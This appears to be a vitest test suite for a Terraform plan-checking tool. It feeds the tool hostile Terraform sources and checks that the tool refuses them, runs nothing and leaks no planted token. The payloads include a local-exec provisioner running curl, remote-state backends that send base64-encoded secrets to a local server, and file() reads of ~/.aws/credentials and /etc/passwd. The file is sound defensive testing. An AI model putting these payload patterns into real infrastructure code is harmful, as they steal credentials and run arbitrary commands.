import { createHash, randomBytes } from 'node:crypto';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { childEntry } from '../process/child-entry.js';
import { openSource } from '../source/open-source.js';
import { resolveFromSource } from '../source/resolve-from-source.js';
import {
  MIRROR,
  readCasePlan,
  readCaseText,
  whyNoTerraform,
  writeCaseSource,
} from '../source/terraform.fixture.js';

const CASE = 'local-web-acl-target--correct';
/** What must never leave the machine, nor be seen in any output. */
const TOKEN = `PLANTED${randomBytes(8).toString('hex')}`;

const base = mkdtempSync(join(tmpdir(), 'holdfast-hostile-'));
const home = join(base, 'home');
const temporary = join(base, 'tmp');
const marker = join(base, 'marker');
const outside = join(base, 'outside.txt');
const planFile = join(base, 'plan.json');
const requests: string[] = [];
let server: Server;
let url: string;

beforeAll(async () => {
  for (const folder of [join(home, '.aws'), temporary]) mkdirSync(folder, { recursive: true });
  for (const file of [outside, join(home, '.aws/credentials')]) writeFileSync(file, TOKEN);
  writeFileSync(planFile, readCaseText(CASE));
  server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.end('{}');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(() => {
  server.close();
  rmSync(base, { recursive: true, force: true });
});

/** The source of the case with hostile files beside it; `planted.txt` holds the token. */
async function plant(files: Readonly<Record<string, string>>): Promise<string> {
  const folder = mkdtempSync(join(base, 'source-'));
  await writeCaseSource(CASE, folder, { 'planted.txt': TOKEN, ...files });
  return folder;
}

interface Judged {
  readonly code: number | null;
  /** Everything that it printed or wrote. */
  readonly output: string;
}

function startGate(folder: string): { pid: number; ended: Promise<Judged> } {
  const files = ['json', 'sarif', 'junit', 'markdown', 'github'].map((format) => ({
    format,
    file: join(base, `out.${format}`),
  }));
  const formats = files.flatMap(({ format, file }) => ['--format', format, '--out', file]);
  const child = spawn(
    process.execPath,
    [
      childEntry(import.meta.url, './main.js'),
      'gate',
      planFile,
      '--config-dir',
      folder,
      '--source-root',
      folder,
      // Without a real one these tests need its folder alone.
      '--provider-mirror',
      MIRROR ?? home,
      ...formats,
      '--format',
      'text',
    ],
    {
      detached: true,
      env: {
        ...process.env,
        HOME: home,
        TMPDIR: temporary,
        AWS_SECRET_ACCESS_KEY: TOKEN,
        TF_VAR_stolen: TOKEN,
        TF_CLI_ARGS_test: `-filter=${TOKEN}`,
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
  const parts: string[] = [];
  for (const stream of [child.stdout, child.stderr])
    stream.setEncoding('utf8').on('data', (text: string) => parts.push(text));
  const ended = once(child, 'close').then(([code]): Judged => {
    const written = files.map(({ file }) => (existsSync(file) ? readFileSync(file, 'utf8') : ''));
    return { code: code as number | null, output: [...parts, ...written].join('\n') };
  });
  return { pid: child.pid ?? 0, ended };
}

/** Judges with a hostile source, and proves that nothing came of it but the answer. */
async function judge(folder: string): Promise<Judged> {
  const before = digest(folder);
  const judged = await startGate(folder).ended;
  expect(judged.output).not.toContain(TOKEN);
  expect(judged.output).not.toContain(Buffer.from(TOKEN).toString('base64').slice(0, 12));
  expect(judged.output).not.toMatch(/^\s+at .*\.js:/m);
  expect(requests).toEqual([]);
  expect(existsSync(marker)).toBe(false);
  expect(digest(folder)).toBe(before);
  expect(leftBehind()).toEqual([]);
  return judged;
}

/** Of every file: its name, kind, content and the time it was changed. */
function digest(folder: string): string {
  const hash = createHash('sha256');
  for (const name of readdirSync(folder, { recursive: true, encoding: 'utf8' }).toSorted()) {
    const path = join(folder, name);
    const stats = lstatSync(path);
    const content = stats.isFile() ? readFileSync(path) : '';
    hash.update(`${name} ${stats.mode} ${stats.mtimeMs} `).update(content);
  }
  return hash.digest('hex');
}

/** Temporary folders and processes of a run. */
function leftBehind(): string[] {
  const processes = readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => seenOf(pid).includes(join(temporary, 'holdfast-source-')));
  return [...readdirSync(temporary), ...processes];
}

function seenOf(pid: string): string {
  const look = (read: () => string): string => {
    try {
      return read();
    } catch {
      return '';
    }
  };
  return [
    look(() => readFileSync(`/proc/${pid}/cmdline`, 'utf8')),
    look(() => readlinkSync(`/proc/${pid}/root`)),
  ].join(' ');
}

const until = async (holds: () => boolean): Promise<void> => {
  while (!holds()) await new Promise((resolve) => setTimeout(resolve, 50));
};

describe('what is refused before anything runs', () => {
  it.each([
    [
      'an external data source',
      'data "external" "x" {\n  program = ["sh", "-c", "touch MARKER"]\n}',
      'source/provider-missing',
    ],
    [
      'a provider from elsewhere',
      'terraform {\n  required_providers {\n    evil = { source = "evil.example/x/evil" }\n  }\n}\nresource "evil_x" "x" {}',
      'source/provider-missing',
    ],
    [
      'a module from git',
      'module "x" {\n  source = "git::file:///tmp/x"\n}',
      'source/module-refused',
    ],
    ['a module over HTTP', 'module "x" {\n  source = "URL/x.zip"\n}', 'source/module-refused'],
    [
      'a module outside of the source',
      'module "x" {\n  source = "../../../etc"\n}',
      'source/module-refused',
    ],
    [
      'a module whose source is no literal',
      'module "x" {\n  source = file("planted.txt")\n}',
      'source/module-refused',
    ],
    ['what is no HCL', 'resource "aws_vpc" {{{ "\n', 'source/not-understood'],
  ])('%s', { timeout: 60_000 }, async (_, text, code) => {
    const folder = await plant({ 'zz.tf': text.replace('MARKER', marker).replace('URL', url) });
    const { output } = await judge(folder);
    expect(output).toContain(code);
  });

  it('a module that configures a provider itself', async () => {
    const folder = await plant({
      'zz.tf': 'module "x" {\n  source = "./x"\n}\n',
      'x/main.tf': `provider "aws" {\n  region = "us-east-1"\n  access_key = file("planted.txt")\n  endpoints {\n    sts = "${url}"\n  }\n}\n`,
    });
    expect((await judge(folder)).output).toContain('source/provider-in-module');
  });

  it.each([
    ['a file', 'zz.tf'],
    ['a folder', 'x'],
  ])('a link that leads out of the source: %s', async (_, name) => {
    const folder = await plant({
      'yy.tf': name === 'x' ? 'module "x" {\n  source = "./x"\n}\n' : '',
    });
    symlinkSync(name === 'x' ? home : outside, join(folder, name));
    expect((await judge(folder)).output).toMatch(/source\/(?:link|module-refused)/);
  });
});

const why = whyNoTerraform();

/** What a local of the plan hides of its web ACL, once the source has told it, and without. */
const DECIDED = /^ {2}edge\/waf-attached: 1 of 1 resource/m;
const UNDECIDED = /^UNKNOWN {2}edge\/waf-attached/m;

describe.skipIf(why !== undefined)('with a real terraform', { timeout: 240_000 }, () => {
  it('resolves, and neither runs, sends nor shows what the source has planted', async () => {
    const folder = await plant({
      'zz.tf': `
        locals {
          stolen  = file("\${path.module}/planted.txt")
          outside = try(file("${outside}"), file("~/.aws/credentials"), file("/etc/passwd"), "nothing")
        }
        variable "stolen" { default = "" }
        data "terraform_remote_state" "leak" {
          backend = "http"
          config  = { address = "${url}/\${base64encode(local.stolen)}" }
        }
        output "stolen" {
          value = [local.stolen, local.outside, var.stolen, data.terraform_remote_state.leak.outputs]
          precondition {
            condition     = local.stolen == ""
            error_message = local.stolen
          }
        }
        check "loud" {
          assert {
            condition     = false
            error_message = local.stolen
          }
        }
        terraform {
          backend "http" {
            address = "${url}/state"
          }
        }`,
      'zz_override.tf': `
        provider "aws" {
          region     = "us-east-1"
          access_key = file("planted.txt")
          endpoints {
            sts = "${url}"
          }
        }
        resource "aws_lb" "main" {
          provisioner "local-exec" {
            command = "touch ${marker}; curl ${url}"
          }
          lifecycle {
            postcondition {
              condition     = false
              error_message = local.stolen
            }
          }
        }`,
      'zz.tftest.hcl': 'run "x" {\n  command = apply\n}\n',
      'terraform.tfvars': 'stolen = "from the values"\n',
    });
    const { output } = await judge(folder);
    expect(output).toMatch(/Source: \d+ open arguments resolved by terraform/);
    expect(output).toMatch(DECIDED);
  });

  it('takes no other address, tag or user data than the plan has', async () => {
    const folder = await plant({
      'zz.tf':
        'resource "terraform_data" "x" {\n  for_each = toset([file("planted.txt"), "x"])\n}\n',
      'zz_override.tf': 'resource "aws_lb" "main" {\n  tags = { x = file("planted.txt") }\n}\n',
    });
    const { output } = await judge(folder);
    expect(output).toContain('[source/mismatch]');
    expect(output).toContain('it plans 2 more resources');
    expect(output).toMatch(UNDECIDED);
  });

  it('names the place of what fails, and nothing of what terraform says about it', async () => {
    const folder = await plant({
      'zz.tf':
        '\nlocals {\n  x = tonumber(file("planted.txt"))\n}\noutput "x" {\n  value = local.x\n}\n',
    });
    const { output } = await judge(folder);
    expect(output).toContain(
      '[source/plan-failed] The source resolves nothing: its mocked plan failed at zz.tf:3',
    );
    expect(output).toMatch(UNDECIDED);
  });

  it('leaves nothing when it is interrupted, nor when it is killed', async () => {
    const folder = await plant({ 'zz.tf': LOOP });
    for (const [signal, code] of [
      ['SIGINT', 130],
      ['SIGKILL', null],
    ] as const) {
      const gate = startGate(folder);
      await until(() => leftBehind().length > 1);
      process.kill(gate.pid, signal);
      expect((await gate.ended).code).toBe(code);
      // The watchdog of a killed run clears away by itself.
      await until(() => leftBehind().length === 0);
    }
  });

  it('ends a plan that takes too long', async () => {
    const folder = await plant({ 'zz.tf': LOOP });
    const result = await resolveHere(folder, { timeoutMs: 6000 });
    expect(result).toMatchObject({ state: 'unresolved', code: 'source/timeout' });
  });

  it('without namespaces: mocks what would send, and refuses what reads any file', async () => {
    const leak = `data "terraform_remote_state" "x" {\n  backend = "http"\n  config = { address = "${url}" }\n}\n`;
    const sent = await resolveHere(await plant({ 'zz.tf': leak }), { plain: true });
    expect(sent).toMatchObject({ state: 'resolved', isolated: false });
    expect(requests).toEqual([]);
    for (const call of [
      `file("${outside}")`,
      'file("../outside.txt")',
      'file(join("", ["/etc/", "passwd"]))',
      'templatestring("x", {})',
      'templatefile("planted.tftpl", {})',
      'fileset("/", "*")',
      'core::file("/etc/passwd")',
    ]) {
      const files = {
        'zz.tf': `output "x" {\n  value = ${call}\n}\n`,
        'planted.tftpl': '${file ("/etc/passwd")}',
      };
      const result = await resolveHere(await plant(files), { plain: true });
      expect(result, call).toMatchObject({ state: 'unresolved', code: 'source/reads-files' });
    }
  });
});

const LOOP = `locals {
  x = [for a in range(1000) : [for b in range(1000) : [for c in range(1000) : sha256("\${a}\${b}\${c}")]]]
}
output "x" {
  value = length(local.x)
}
`;

function resolveHere(folder: string, options: { plain?: boolean; timeoutMs?: number }) {
  const source = openSource({ directory: folder, sourceRoot: folder });
  const signal = new AbortController().signal;
  return resolveFromSource(readCasePlan(CASE), source, { mirror: MIRROR, signal, ...options });
}
